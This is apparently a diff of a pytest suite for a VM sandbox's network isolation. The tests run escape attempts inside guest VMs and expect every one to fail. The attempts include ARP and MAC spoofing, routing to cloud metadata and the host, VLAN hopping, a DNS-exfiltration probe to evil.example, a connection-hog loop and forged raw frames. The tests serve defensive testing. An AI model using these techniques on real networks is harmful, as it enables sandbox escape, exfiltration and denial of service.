@@ -10,108 +10,76 @@ import json
 import os
 import re
 import signal
+import socket
 import struct
+import subprocess
 import xml.etree.ElementTree as ElementTree
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from typing import Any
 
+import frames as raw
 import pytest
+from attempts import ATTEMPTS, TAGGED, ask_by_tcp, attempts_of, question, tcp
 from home import Home
+from ranges import (
+    GET,
+    OTHER,
+    OWN_MAC,
+    RANGE,
+    SERVE,
+    SMALL,
+    Range,
+    card_of,
+    frames,
+    helpers,
+    holders,
+    inhabitants,
+    marks,
+    pids,
+)
 from world import (
     BANNER,
     EVIL,
-    FORGE,
     HOST,
+    HOST6,
+    HOST_BROADCAST,
     HOST_TOO,
+    LAST,
     LITERAL,
+    MANY,
     METADATA,
+    METADATA6,
     MIRROR,
     PRIVATE,
     PRIVATE_TOO,
-    ROUTER,
     World,
-    WorldHome,
 )
 
-from tools import STRANGER, needs_root, until
+from tools import STRANGER, namespace, needs_root, until
 
 pytestmark = needs_root
-
-SMALL = {"source": "tiny", "ram_mb": 192, "vcpus": 1}
-
-
-def subnet(net: str, **more: Any) -> dict[str, Any]:
-    start, end = f"{net}.100", f"{net}.110"
-    return {"cidr": f"{net}.0/24", "dhcp_ranges": [{"start": start, "end": end}], **more}
-
-
-def nic(vnet: str, last: int, ipv4: str) -> dict[str, Any]:
-    return {"vnet": vnet, "mac": f"52:54:00:00:00:{last:02x}", "ipv4": ipv4}
-
-
-# lan has a short list of what it may reach, free may reach everything, shut nothing. The router
-# between lan and shut is a VM.
-RANGE: dict[str, Any] = {
-    "networks": {
-        "vnets": [
-            {
-                "alias": "lan",
-                "egress": {
-                    "allow": {
-                        "domains": ["mirror.example", "*.forge.example"],
-                        "cidrs": ["203.0.113.128/28"],
-                        "ports": [80],
-                    }
-                },
-                "subnets": [subnet("192.168.20", gateway="192.168.20.1", snat=True)],
-            },
-            {
-                "alias": "free",
-                "egress": "open",
-                "subnets": [subnet("192.168.30", gateway="192.168.30.1", snat=True)],
-            },
-            {"alias": "shut", "subnets": [subnet("10.99.0", gateway="10.99.0.1")]},
-        ]
-    },
-    "vms": [
-        {
-            **SMALL,
-            "name": "router",
-            "await_before_next_vm": True,
-            "nics": [nic("lan", 2, "192.168.20.2"), nic("shut", 3, "10.99.0.2")],
-        },
-        {**SMALL, "name": "attacker"},
-        {**SMALL, "name": "tourist", "nics": [{"vnet": "free"}], "nic_controller": "e1000"},
-        {**SMALL, "name": "hermit", "nics": [nic("shut", 5, "10.99.0.5")]},
-    ],
-}
-# The same addresses at the same time.
-OTHER: dict[str, Any] = {
-    "networks": {"vnets": [{"alias": "lan", "subnets": [subnet("192.168.20")]}]},
-    "vms": [{**SMALL, "name": "other", "nics": [nic("lan", 9, "192.168.20.9")]}],
-}
-SERVE = f"mkdir -p /tmp/w; echo {BANNER}-$(hostname)-%s > /tmp/w/index.html; httpd -p 80 -h /tmp/w"
-GET = "timeout 20 wget -q -O - http://%s/ || echo failed"
-
-
-class Range(WorldHome):
-    box: str
-    other: str
 
 
 @pytest.fixture(scope="module", params=[0, STRANGER], ids=["root", "user"])
 def range_(request: pytest.FixtureRequest, images: None) -> Iterator[Range]:
     root = Home()
-    image = Path(json.loads(root.ok("image", "inspect", "tiny", "--json"))["dir"])
+    root.ok("image", "build", "tiny-disk", timeout=1800)
+    found = [
+        Path(json.loads(root.ok("image", "inspect", name, "--json"))["dir"])
+        for name in ("tiny", "tiny-disk")
+    ]
     root.close()
     world = World()
-    home = Range(world, request.param, image)
+    home = Range(world, request.param, found)
     try:
+        world.listen()
         spec = copy.deepcopy(RANGE)
         spec["networks"]["vnets"][0]["capture"] = str(home.dir / "life-of-{id}.pcap")
-        home.box = home.ok("up", home.spec(spec), timeout=900)
+        done = home.run("up", home.spec(spec), timeout=900)
+        assert done.returncode == 0, done.stderr
+        home.box, home.said = done.stdout.strip(), done.stderr.splitlines()
         home.other = home.ok("up", home.spec(OTHER), timeout=900)
         for box, vm in ((home.box, "router"), (home.box, "hermit"), (home.other, "other")):
             home.sh(box, vm, SERVE % vm)
@@ -178,6 +146,58 @@ def test_same_addresses_in_two_sandboxes(range_: Range) -> None:
     assert BANNER not in range_.sh(range_.other, "other", f"{GET % '192.168.20.2'} 2>&1")
 
 
+def test_vlans_are_apart(range_: Range) -> None:
+    for vm, card, last in (("router", "eth3", 1), ("attacker", "eth1", 2), ("hermit", "eth1", 3)):
+        range_.sh(
+            range_.box, vm, f"ip addr add 172.20.0.{last}/24 dev {card}; ip link set {card} up"
+        )
+    reach = "ping -c 1 -W 4 172.20.0.{} | grep -q ' 0% packet loss' && echo {} || true"
+    assert range_.sh(range_.box, "attacker", reach.format(1, "same")) == "same"
+    assert range_.sh(range_.box, "hermit", reach.format(1, "other")) == ""
+    assert range_.sh(range_.box, "router", reach.format(3, "other")) == ""
+
+
+def test_a_kernel_that_cannot_tell_vlans(range_: Range) -> None:
+    """A card that sees all VLANs, and one that is in one of them: not every kernel can do that."""
+    spec = copy.deepcopy(OTHER)
+    spec["networks"]["vnets"][0]["vlan_aware"] = True
+    spec["vms"][0]["nics"].append({"vnet": "lan", "vlan_tag": 7})
+    checks = json.loads(range_.run("doctor", "--json").stdout)["checks"]
+    faults = [check for check in checks if check["name"] == "vlans"]
+    inside = ["unshare", "--net", "ip", "link", "add", "br0", "type", "bridge"]
+    can = subprocess.run([*inside, "vlan_filtering", "1"], capture_output=True, check=False)
+    if can.returncode == 0:
+        assert faults == []
+        range_.ok("rm", range_.ok("up", range_.spec(spec), timeout=900))
+        return
+    assert f"{faults[0]['detail']}: {faults[0]['fix']}" in range_.fails("up", range_.spec(spec))
+    assert "VLAN" in faults[0]["detail"]
+
+
+def test_dns_by_tcp(range_: Range) -> None:
+    """What does not fit into a packet is fetched by TCP, and opened as any other answer."""
+    assert BANNER not in range_.sh(range_.box, "attacker", f"{tcp(LAST)} 2>&1; true")
+    many, local, evil = (question(n) for n in ("many.forge.example", "router", "evil.example"))
+    ask = ask_by_tcp("192.168.20.1", many, local, evil)
+    said = bytes.fromhex(range_.sh(range_.box, "attacker", ask))
+    answers = []
+    while said:
+        (length,) = struct.unpack(">H", said[:2])
+        answers.append(said[2 : 2 + length])
+        said = said[2 + length :]
+    flags = [struct.unpack(">HHHH", answer[:8]) for answer in answers]
+    assert [(f[1] & 0x20F, f[3]) for f in flags] == [(0, len(MANY)), (0, 1), (5, 0)]
+    assert all(socket.inet_aton(address) in answers[0] for address in MANY)
+    assert socket.inet_aton("192.168.20.2") in answers[1]
+    assert BANNER in range_.sh(range_.box, "attacker", GET % LAST)
+    # By UDP the answer says that it is cut: that is how a resolver knows to come back by TCP.
+    assert "203.0.112.1" in range_.sh(range_.box, "attacker", "nslookup many.forge.example; true")
+    # Nobody keeps others out by opening connections and saying nothing.
+    hog = "for n in $(seq 90); do sleep 30 | nc 192.168.20.1 53 & done; sleep 3;"
+    after = range_.sh(range_.box, "attacker", f"{hog} {ask_by_tcp('192.168.20.1', local)}")
+    assert socket.inet_aton("192.168.20.2").hex() in after
+
+
 def test_allow_list(range_: Range) -> None:
     said = range_.sh(
         range_.box,
@@ -194,131 +214,6 @@ def test_open(range_: Range) -> None:
     assert said.count(BANNER) == 3, said
 
 
-def tcp(address: str, port: int = 80) -> str:
-    return f"echo | nc -w 3 {address} {port}"
-
-
-def dns(server: str) -> str:
-    """A question by UDP that an outside server would answer."""
-    return f"timeout 3 nslookup evil.example {server} | grep -q {EVIL} && echo {BANNER}"
-
-
-def resolves(name: str, address: str) -> str:
-    return f"timeout 15 nslookup {name} | grep -q {address} && echo {BANNER}"
-
-
-def pings(address: str) -> str:
-    return f"ping -c 1 -w 3 {address} | grep -q ' 0% packet loss' && echo {BANNER}"
-
-
-# What a guest tries whatever its network's policy; each must come to nothing. These at once:
-EVERYWHERE = {
-    **{f"the host at {a}:{p}": tcp(a, p) for a in (HOST, HOST_TOO) for p in (80, 8080)},
-    **{f"DNS of the host at {a}": dns(a) for a in (HOST, HOST_TOO)},
-    **{f"metadata at {a}": tcp(a) for a in METADATA},
-    **{f"DNS at metadata {a}": dns(a) for a in METADATA},
-    **{f"the laboratory at {a}": tcp(a) for a in (PRIVATE, PRIVATE_TOO)},
-    "the other sandbox": tcp("192.168.20.9"),
-    "the link to the outside": f"{tcp('192.0.0.1')}; {tcp('192.0.0.2')}",
-    "ports of the gateway": f"{tcp('$GW')}; {tcp('$GW', 8080)}; {tcp('$GW', 53)}",
-    **{
-        f"{a}, if it is another network's gateway": f"[ $GW = {a} ] || {{ {tcp(a)}; {pings(a)}; }}"
-        for a in ("192.168.20.1", "192.168.30.1", "10.99.0.1")
-    },
-    "IPv6 to the link-local address of the gateway": "ping6 -c 1 -w 3 -I eth0 $GW6"
-    f" | grep -q ' 0% packet loss' && echo {BANNER}",
-}
-LISTED = {
-    "a name that is not listed": resolves("evil.example", EVIL),
-    "a name above a listed one": resolves("forge.example", FORGE),
-    "a listed name that leads to metadata": resolves("metadata.forge.example", METADATA[0]),
-    "a listed name that leads to the laboratory": resolves("private.forge.example", PRIVATE),
-    "a listed name that leads to the host": resolves("host.forge.example", HOST),
-    "an address that is not listed": tcp(EVIL),
-    "a listed address at another port": tcp(MIRROR, 8080),
-    "a listed network at another port": tcp(LITERAL, 8080),
-    "another DNS server": dns(ROUTER),
-    "DNS at an address outside": dns(EVIL),
-}
-SHUT = {
-    "any name": resolves("mirror.example", MIRROR),
-    "any address": f"{tcp(MIRROR)}; {tcp(LITERAL)}",
-    "any DNS server": dns(ROUTER),
-    "ping": pings(MIRROR),
-}
-# And these, which change the guest's own network, one after the other:
-ALONE = {
-    "loopback of the other side": "ip addr del 127.0.0.1/8 dev lo; ip route add 127.0.0.1 via $GW;"
-    f"{tcp('127.0.0.1', 8080)}; ip addr add 127.0.0.1/8 dev lo",
-    "metadata on the link, by ARP for the gateway": (
-        f"ip route add {METADATA[0]}/32 dev eth0; arp -s {METADATA[0]} $GWMAC; {tcp(METADATA[0])};"
-        f"ip route del {METADATA[0]}/32 dev eth0"
-    ),
-    "the host on the link, by ARP for the gateway": (
-        f"ip route add {HOST}/32 dev eth0; arp -s {HOST} $GWMAC; {tcp(HOST, 8080)};"
-        f"ip route del {HOST}/32 dev eth0"
-    ),
-    "the host from an address of the host": (
-        f"ip addr add {HOST_TOO}/32 dev eth0; ip route add {HOST}/32 via $GW src {HOST_TOO};"
-        f"{tcp(HOST, 8080)}; ip route del {HOST}/32; ip addr del {HOST_TOO}/32 dev eth0"
-    ),
-    "the outside from an address of another network": (
-        f"ip addr add 172.31.0.1/32 dev eth0; ip route add {EVIL}/32 via $GW src 172.31.0.1;"
-        f"{tcp(EVIL)}; ip route del {EVIL}/32; ip addr del 172.31.0.1/32 dev eth0"
-    ),
-    "IPv6 metadata": (
-        "ip -6 neigh add $GW6 lladdr $GWMAC dev eth0; ip -6 addr add fd00:ec2::1/64 dev eth0;"
-        "ip -6 route add default via $GW6 dev eth0;"
-        f"ip -6 neigh add fd00:ec2::254 lladdr $GWMAC dev eth0; {tcp('fd00:ec2::254')}"
-    ),
-    "with the MAC address of the gateway": (
-        "OLD=$(cat /sys/class/net/eth0/address); ip link set eth0 down;"
-        "ip link set eth0 address $GWMAC; ip link set eth0 up; ip route add default via $GW;"
-        f"{tcp(HOST, 8080)}; {tcp(METADATA[0])}; ip link set eth0 down;"
-        "ip link set eth0 address $OLD; ip link set eth0 up; ip route add default via $GW"
-    ),
-    "a neighbour, with a VLAN tag": (
-        "ip link add link eth0 name tagged type vlan id 5 || echo no tags;"
-        "ip addr add $TAG.1/24 dev tagged; ip link set tagged up;"
-        f"{pings('$TAG.2')}; ip link del tagged"
-    ),
-}
-THROUGH_ROUTER = {
-    "out through the router VM": (
-        f"ip route add {MIRROR}/32 via 10.99.0.2; {tcp(MIRROR)}; ip route del {MIRROR}/32"
-    ),
-}
-ATTEMPTS = {
-    "attacker": ("192.168.20.1", {**EVERYWHERE, **LISTED}, ALONE),
-    "tourist": ("192.168.30.1", EVERYWHERE, ALONE),
-    "hermit": ("10.99.0.1", {**EVERYWHERE, **SHUT}, {**ALONE, **THROUGH_ROUTER}),
-}
-# The router has cards with the tag too, so that only the switch is between them and the others.
-TAGGED = "".join(
-    f"ip link add link {card} name tag{card} type vlan id 5; ip addr add {net}.2/24 dev tag{card};"
-    f"ip link set tag{card} up;"
-    for card, net in (("eth0", "192.168.77"), ("eth1", "192.168.78"))
-)
-
-
-def attempts_of(vm: str) -> tuple[list[str], str]:
-    """What is tried there, and a script that tries it."""
-    gateway, at_once, alone = ATTEMPTS[vm]
-    script = [
-        f"exec 2>/dev/null; GW={gateway}; ping -c 1 -w 10 $GW >/dev/null",
-        f"TAG=192.168.{78 if vm == 'hermit' else 77}",
-        'GWMAC=$(arp -n | grep "($GW)" | grep -o "[0-9a-f:]\\{17\\}" | head -n 1); echo $GWMAC',
-        'set -- $(echo $GWMAC | tr : " "); GW6=fe80::$(printf %x $((0x$1 ^ 2)))$2:$3ff:fe$4:$5$6',
-    ]
-    for number, attempt in enumerate([*at_once.values(), *alone.values()]):
-        script.append(f"({attempt}) > /tmp/attempt.{number}{' &' if number < len(at_once) else ''}")
-        if number == len(at_once) - 1:
-            script.append("wait")
-    names = [*at_once, *alone]
-    script += [f"echo; echo == {n}; cat /tmp/attempt.{n}" for n in range(len(names))]
-    return names, "\n".join(script)
-
-
 def test_nothing_gets_out(range_: Range) -> None:
     range_.sh(range_.box, "router", TAGGED)
     tries = {vm: attempts_of(vm) for vm in ATTEMPTS}
@@ -333,11 +228,84 @@ def test_nothing_gets_out(range_: Range) -> None:
         assert len(parts) == len(names), said[vm]
         assert "no tags" not in said[vm]
         assert [names[int(p.split()[0])] for p in parts if BANNER in p] == [], vm
+    # No word of theirs was in a question that left, though questions do leave.
+    range_.sh(
+        range_.box, "tourist", "timeout 20 nslookup -type=txt leak-control.evil.example; true"
+    )
+    until(lambda: any(b"leak-control" in f for f in range_.world.heard()), "a question is heard")
+    leaked = {w for f in range_.world.heard() for w in re.findall(rb"leak-[a-z]+", f)}
+    assert leaked == {b"leak-control"}
+
+
+def test_no_frame_gets_out(range_: Range) -> None:
+    """Forged sources, tags, fragments, multicast, IPv6 and so on: what no honest program sends."""
+    sender = str(Path(range_.binary).parents[2] / "tests" / "rawsend")
+    others = {"attacker": "192.168.30.100", "tourist": "192.168.20.100", "hermit": "192.168.20.100"}
+    allowed = {"attacker": LITERAL, "tourist": EVIL, "hermit": ""}
+    watched = {range_.box: ["lan", "free", "shut"], range_.other: ["lan"]}
+    captures = {}
+    for box, vnets in watched.items():
+        for vnet in vnets:
+            path = range_.dir / f"marks-{box}-{vnet}.pcap"
+            captures[box, vnet] = path
+            range_.start("capture", "-o", str(path), box, vnet, stderr=subprocess.DEVNULL)
+    until(lambda: all(p.exists() and p.stat().st_size >= 24 for p in captures.values()), "captures")
+    names: dict[str, list[str]] = {}
+    for vm, (gateway, _) in ATTEMPTS.items():
+        card = card_of(range_, vm, gateway)
+        away = "10.99.0.1" if vm != "hermit" else "192.168.20.1"
+        to = raw.Targets(
+            HOST, HOST_TOO, HOST_BROADCAST, HOST6, METADATA, METADATA6, EVIL, others[vm], away
+        )
+        tries = raw.attempts(card, to)
+        if vm == "tourist":  # who may send to EVIL, under whatever name it goes
+            tries = {n: f for n, f in tries.items() if EVIL not in n}
+        names[vm] = [*tries]
+        sent = [frame for some in tries.values() for frame in some]
+        # The last one is fine, so that all before it have been looked at when it is heard.
+        last = allowed[vm] or gateway
+        sent.append(raw.plain(card, last, card.gateway_mac, f"mk-fine-{vm}.".encode()))
+        range_.ok("cp", sender, f"{range_.box}/{vm}:/tmp/rawsend")
+        lines = "\n".join(frame.hex() for frame in sent)
+        said = range_.ok(
+            *("exec", "-i", "--user", "root", "--vm", vm, range_.box, "--"),
+            *("sh", "-c", "chmod +x /tmp/rawsend; /tmp/rawsend eth0"),
+            input=lines,
+        )
+        assert said == str(len(sent))
+    until(
+        lambda: {b"mk-fine-attacker", b"mk-fine-tourist"} <= marks(range_.world.heard()),
+        "what may get out is heard outside",
+    )
+    assert marks(range_.world.heard()) == {b"mk-fine-attacker", b"mk-fine-tourist"}, names
+    own = {"lan": b"attacker", "free": b"tourist", "shut": b"hermit"}
+    until(
+        lambda: all(
+            b"mk-fine-" + own[vnet] in marks([captures[range_.box, vnet].read_bytes()])
+            for vnet in own
+        ),
+        "each network has seen its own",
+    )
+    for (box, vnet), path in captures.items():
+        seen = {mark.split(b"-")[2] for mark in marks([path.read_bytes()])}
+        assert seen == ({own[vnet]} if box == range_.box else set()), vnet
+    for pid, line in range_.processes().items():
+        if " capture -o " in line:
+            os.kill(pid, signal.SIGINT)
+    # And no advertisement was believed.
+    for pid in pids(range_, "dnsmasq"):
+        inside = ["nsenter", "-t", str(pid), "--net", "ip"]
+        known = subprocess.run([*inside, "-6", "addr"], capture_output=True, text=True, check=True)
+        assert known.stdout == ""
+        routes = subprocess.run([*inside, "route"], capture_output=True, text=True, check=True)
+        assert HOST not in routes.stdout
 
 
 def test_the_listeners_work(range_: Range) -> None:
     for address in (HOST, HOST_TOO):
         assert range_.world.reaches(address, 8080), address
+    assert range_.world.reaches(HOST6)
+    assert range_.world.reaches(METADATA6)
     for address in (*METADATA, PRIVATE, PRIVATE_TOO, EVIL, MIRROR, LITERAL):
         assert range_.world.reaches(address), address
     # And the guests are not just deaf: each gets at what it may, after all those attempts.
@@ -366,8 +334,8 @@ def test_what_was_refused_is_told(range_: Range) -> None:
 
 def test_a_network_can_be_seen(range_: Range) -> None:
     net = json.loads(range_.ok("net", "--json", range_.box))
-    assert [vnet["alias"] for vnet in net["vnets"]] == ["lan", "free", "shut"]
-    assert [vnet["egress"] for vnet in net["vnets"]][1:] == ["open", "deny"]
+    assert [vnet["alias"] for vnet in net["vnets"]] == ["lan", "free", "shut", "own", "tags"]
+    assert [vnet["egress"] for vnet in net["vnets"]][1:] == ["open", "deny", "deny", "deny"]
     assert net["vnets"][0]["egress"]["allow"]["domains"] == ["mirror.example", "*.forge.example"]
     leases = {(nic["vm"], nic["vnet"]): nic["lease"] for nic in net["nics"]}
     assert leases["attacker", "lan"] == "192.168.20.100"
@@ -396,14 +364,38 @@ def test_forwarded_ports(range_: Range) -> None:
     assert "is not forwarded" in range_.fails("forward", "--remove", port, range_.box)
 
 
-def frames(data: bytes) -> Iterator[bytes]:
-    assert struct.unpack("<I", data[:4]) == (0xA1B23C4D,)
-    assert struct.unpack("<I", data[20:24]) == (1,), "Ethernet"
-    at = 24
-    while at + 16 <= len(data):
-        (length,) = struct.unpack("<I", data[at + 8 : at + 12])
-        yield data[at + 16 : at + 16 + length]
-        at += 16 + length
+def test_subnets_of_a_network_reach_each_other(range_: Range) -> None:
+    """The victim has no agent in use, an IDE disk and an e1000, and is in the other subnet."""
+    ping = "for n in $(seq 300); do ping -c 1 -W 1 {} >/dev/null && echo got-it && break; done"
+    assert "got-it" in range_.sh(range_.box, "attacker", ping.format("victim"), timeout=900)
+    assert "192.168.21.9" in range_.sh(range_.box, "attacker", "nslookup victim")
+    way = range_.sh(range_.box, "attacker", "traceroute -n -q 1 -m 3 -w 5 victim 2>&1")
+    assert "192.168.20.1" in way, "through the gateway"
+    stranger = "ping -c 1 -W 3 192.168.21.9 && echo got-it; true"
+    assert "got-it" not in range_.sh(range_.box, "tourist", stranger)
+    news = [line for line in range_.said if line.split()[0] in ("starting", "waiting")]
+    assert news.index("waiting for router") < news.index("starting victim")
+    assert "waiting for victim" not in news
+
+
+def test_a_vm_serves_dhcp(range_: Range) -> None:
+    conf = "interface eth2\\nstart 10.43.0.50\\nend 10.43.0.60\\nlease_file /tmp/leases\\n"
+    range_.sh(
+        range_.box,
+        "router",
+        "kill $(cat /run/udhcpc.eth2.pid) 2>/dev/null; ip addr add 10.43.0.1/24 dev eth2;"
+        f"ip link set eth2 up; touch /tmp/leases; printf '{conf}' > /tmp/udhcpd.conf;"
+        "udhcpd -S /tmp/udhcpd.conf",
+    )
+    # Its DHCP client asks again and again; the ping proves that it took what it got.
+    answered = "ping -c 1 -W 1 10.43.0.50 >/dev/null && arp -n | grep '(10.43.0.50)'"
+    until(
+        lambda: OWN_MAC in range_.sh(range_.box, "router", f"{answered}; true"),
+        "the victim has an address of the router's",
+        300,
+    )
+    shown = json.loads(range_.ok("net", "--json", range_.box))
+    assert [v["dhcp"] for v in shown["vnets"] if v["alias"] == "own"] == [False]
 
 
 def test_captures(range_: Range) -> None:
@@ -437,10 +429,6 @@ def captured(range_: Range) -> dict[str, Any]:
     return {**OTHER, "networks": {"vnets": [{"alias": "lan", "capture": path}]}, "vms": [SMALL]}
 
 
-def pids(home: Home, word: str) -> list[int]:
-    return [pid for pid, line in home.processes().items() if line.startswith(word)]
-
-
 def test_dead_helpers_are_replaced(range_: Range) -> None:
     for word in ("dnsmasq", "pasta"):
         before = pids(range_, word)
@@ -456,17 +444,29 @@ def test_dead_helpers_are_replaced(range_: Range) -> None:
 
 
 def test_a_dead_holder_fails_the_sandbox_loudly(range_: Range) -> None:
-    holders = [
-        pid
-        for pid, line in range_.processes().items()
-        if f"-name moat-{range_.other}/net" in line and " guard " not in line
-    ]
-    assert holders
-    os.kill(max(holders), signal.SIGKILL)
+    (dhcp,) = helpers(range_, range_.other, "dnsmasq")
+    network = namespace(dhcp, "net")
+    assert "dnsmasq\n" in inhabitants(network)
+    os.kill(max(holders(range_, range_.other)), signal.SIGKILL)
     until(lambda: range_.run("exec", range_.other, "true").returncode != 0, "it fails")
     assert "network ended" in range_.fails("exec", range_.other, "true")
+    until(lambda: inhabitants(network) == [], "its network is gone")
     range_.ok("rm", range_.other)
     assert range_.ok("exec", range_.box, "echo", "alive") == "alive"
+
+
+def test_a_helper_that_keeps_dying_fails_the_sandbox_loudly(range_: Range) -> None:
+    box = range_.ok("up", range_.spec(OTHER), timeout=900)
+    network = ""
+    for _ in range(5):
+        (victim,) = until(lambda: helpers(range_, box, "dnsmasq"), "it is back")
+        network = namespace(victim, "net")
+        os.kill(victim, signal.SIGKILL)
+        until(lambda v=victim: v not in helpers(range_, box, "dnsmasq"), "it is gone")
+    until(lambda: range_.run("exec", box, "true").returncode != 0, "it fails")
+    assert "dnsmasq ended 5 times" in range_.fails("exec", box, "true")
+    until(lambda: inhabitants(network) == [], "its network is gone")
+    range_.ok("rm", box)
 
 
 def test_a_host_that_cannot(range_: Range) -> None:
@@ -492,8 +492,10 @@ def test_a_host_that_cannot(range_: Range) -> None:
 
 
 def test_nothing_is_left(range_: Range) -> None:
+    network = namespace(pids(range_, "dnsmasq")[0], "net")
     range_.kill_daemon()
     until(lambda: not range_.qemu_pids(), "the VMs end")
+    until(lambda: inhabitants(network) == [], "the network is gone")
     range_.ok("ls")  # the next daemon forgets them
     range_.assert_nothing_left()
     until(lambda: not pids(range_, "dnsmasq") and not pids(range_, "pasta"), "helpers end")
